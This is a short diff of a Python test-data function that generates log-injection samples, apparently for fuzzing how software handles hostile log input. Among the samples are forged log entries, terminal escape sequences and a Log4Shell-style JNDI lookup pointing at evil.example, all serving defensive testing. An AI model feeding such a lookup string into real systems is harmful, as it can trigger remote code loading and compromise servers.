@@ -158,7 +158,7 @@ def formulas(random: Random) -> str:
 
 def log_lines(random: Random) -> str:
     return pick(
-        random, '"}\n{"level": "error", "event": "quokkas took over"}', "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m",
+        random, '"}\n{"level": "error", "event": "quokkas won"}', "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m",
         "\n2026-11-23 CRITICAL root: owned", "\\n\\r", '{"a": "b", "a": null}', "\u2028]]>", "\b\b\b\b", "\r\x1b[2K",
         "Traceback (most unkind quokka last):", '\\u0000\\ud800"', "]}", "event=request", "${jndi:ldap://evil.example/a}",
     )  # fmt: skip
